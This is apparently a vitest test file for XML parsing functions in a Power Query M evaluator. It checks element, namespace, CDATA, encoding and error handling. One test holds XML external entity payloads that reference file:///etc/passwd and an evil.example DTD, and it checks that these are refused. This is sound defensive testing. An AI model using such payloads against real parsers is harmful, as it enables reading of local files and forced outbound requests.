import { describe, expect, it } from 'vitest';
import { Engine, MError, printValue, STANDARD_LIBRARY } from '@pqsdk/m-evaluator';
import { XML_DOCUMENT } from './xml-document.js';
import { XML_TABLES } from './xml-tables.js';

const engine = new Engine({ library: [...STANDARD_LIBRARY, XML_DOCUMENT, XML_TABLES] });

/** The printed value of an expression, or `error [Reason] Message`. */
function m(text: string): string {
  const ctx = engine.createContext({ now: new Date('2024-01-01T00:00:00Z') });
  try {
    return printValue(ctx, engine.evaluateIn(ctx, text));
  } catch (error) {
    if (!(error instanceof MError)) throw error;
    return `error [${error.reason}] ${String(error.mMessage)}`;
  }
}

const EMPTY_ATTRIBUTES = '#table(type table [Name = text, Namespace = text, Value = text], {})';
const NODES =
  'type table [Name = nullable text, Namespace = nullable text, Value = any, Attributes = nullable table]';

describe('Xml.Document', () => {
  it('gives the root element as the one row of a [Name, Namespace, Value, Attributes] table', () => {
    expect(m('Xml.Document("<a x=""1"">hi</a>")')).toBe(
      `#table(${NODES}, {{"a", "", "hi", #table(type table [Name = text, Namespace = text, Value = text], {{"x", "", "1"}})}})`,
    );
  });

  it('nests the child nodes of an element that has child elements', () => {
    expect(m('Xml.Document("<a><b>1</b><c/></a>"){0}[Value]')).toBe(
      `#table(${NODES}, {{"b", "", "1", ${EMPTY_ATTRIBUTES}}, {"c", "", "", ${EMPTY_ATTRIBUTES}}})`,
    );
  });

  it('keeps text between child elements as rows without a name', () => {
    expect(m('Xml.Document("<p>Hello <b>you</b>!</p>"){0}[Value][Value]')).toBe(
      '{"Hello ", "you", "!"}',
    );
    expect(m('Xml.Document("<p>  <b>you</b>  </p>"){0}[Value][Name]')).toBe('{"b"}');
  });

  it('gives names and namespaces, without the xmlns declarations', () => {
    expect(
      m(
        'let d = Xml.Document("<r xmlns=""urn:r"" xmlns:p=""urn:p"" p:k=""v""><p:c/></r>"){0} in [N = d[Namespace], A = d[Attributes], C = d[Value]{0}[[Name], [Namespace]]]',
      ),
    ).toBe(
      '[N = "urn:r", A = #table(type table [Name = text, Namespace = text, Value = text], {{"k", "urn:p", "v"}}), C = [Name = "c", Namespace = "urn:p"]]',
    );
  });

  it('reads CDATA and entity references as text', () => {
    expect(m('Xml.Document("<a><![CDATA[1 < 2]]> &amp; &#65;</a>"){0}[Value]')).toBe('"1 < 2 & A"');
  });

  it.each([
    ['Text.ToBinary("<a>é</a>")', '"é"'],
    ['Text.ToBinary("<a>é</a>", TextEncoding.Unicode, true)', '"é"'],
    ['Text.ToBinary("<?xml version=""1.0"" encoding=""ISO-8859-1""?><a>é</a>", 28591)', '"é"'],
    ['Text.ToBinary("<a>é</a>", 1252), 1252', '"é"'],
  ])('decodes %s', (contents, value) => {
    expect(m(`Xml.Document(${contents}){0}[Value]`)).toBe(value);
  });

  it.each([
    ['"<a><b></a>"', 'error [DataFormat.Error] Xml.Document: the XML is not well formed'],
    ['""', 'error [DataFormat.Error] Xml.Document: the XML is not well formed'],
    ['"<a/><b/>"', 'error [DataFormat.Error] Xml.Document: the XML is not well formed'],
    ['42', 'error [Expression.Error] Xml.Document takes the XML as a text or a binary.'],
    [
      'Text.ToBinary("<?xml version=""1.0"" encoding=""ebcdic-xx""?><a/>")',
      "error [DataFormat.Error] Xml.Document: the XML declaration names the encoding 'ebcdic-xx'",
    ],
  ])('refuses %s', (contents, message) => {
    expect(m(`Xml.Document(${contents})`)).toContain(message);
  });

  it.each([
    '<!DOCTYPE a [<!ENTITY x "boom">]><a>&x;</a>',
    '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><a/>',
  ])('refuses a DOCTYPE, so no entity is read: %s', (xml) => {
    expect(m(`Xml.Document("${xml.replace(/"/g, '""')}")`)).toBe(
      'error [DataFormat.Error] Xml.Document: the XML has a DOCTYPE declaration, which is not allowed: document type definitions and entities are never processed.',
    );
  });

  it('has the documented function type', () => {
    expect(m('Value.Type(Xml.Document)')).toBe(
      'type function (contents as any, optional encoding as nullable number) as table',
    );
  });
});

describe('Xml.Tables', () => {
  const CATALOG =
    '"<catalog><book id=""1"" lang=""en""><title>Dune</title><author><name>Herbert</name></author></book><book id=""2""><title>Tehanu</title><tag>a</tag><tag>b</tag></book><note>x</note></catalog>"';

  it('lists the root element children by name, with their flattened tables', () => {
    expect(m(`Xml.Tables(${CATALOG})[Name]`)).toBe('{"book", "note"}');
    expect(m(`Value.Type(Xml.Tables(${CATALOG}))`)).toBe('type table [Name = text, Table = table]');
  });

  it('flattens elements into rows: child elements, then attributes, as columns', () => {
    expect(m(`Table.ColumnNames(Xml.Tables(${CATALOG}){0}[Table])`)).toBe(
      '{"title", "author", "tag", "Attribute:id", "Attribute:lang"}',
    );
    expect(
      m(
        `Table.SelectColumns(Xml.Tables(${CATALOG}){0}[Table], {"title", "Attribute:id", "Attribute:lang"})`,
      ),
    ).toBe(
      '#table(type table [title = any, #"Attribute:id" = any, #"Attribute:lang" = any], {{"Dune", "1", "en"}, {"Tehanu", "2", null}})',
    );
  });

  it('nests a complex child or a repeated one as a table', () => {
    expect(m(`Xml.Tables(${CATALOG}){0}[Table]{0}[author]`)).toBe(
      '#table(type table [name = any], {{"Herbert"}})',
    );
    expect(m(`Xml.Tables(${CATALOG}){0}[Table]{1}[tag]`)).toBe(
      '#table(type table [#"Element:Text" = any], {{"a"}, {"b"}})',
    );
  });

  it('gives an element with attributes and text an Element:Text column', () => {
    expect(m('Xml.Tables("<r><v unit=""m"">3</v><v unit=""s"">4</v></r>"){0}[Table]')).toBe(
      '#table(type table [#"Element:Text" = any, #"Attribute:unit" = any], {{"3", "m"}, {"4", "s"}})',
    );
  });

  it('accepts an options record and refuses a DOCTYPE', () => {
    expect(m('Table.RowCount(Xml.Tables("<r><a/></r>", [], TextEncoding.Utf8))')).toBe('1');
    expect(m('Xml.Tables("<!DOCTYPE r><r/>")')).toContain('error [DataFormat.Error] Xml.Tables:');
  });

  it('has the documented function type', () => {
    expect(m('Value.Type(Xml.Tables)')).toBe(
      'type function (contents as any, optional options as nullable record, optional encoding as nullable number) as table',
    );
  });
});
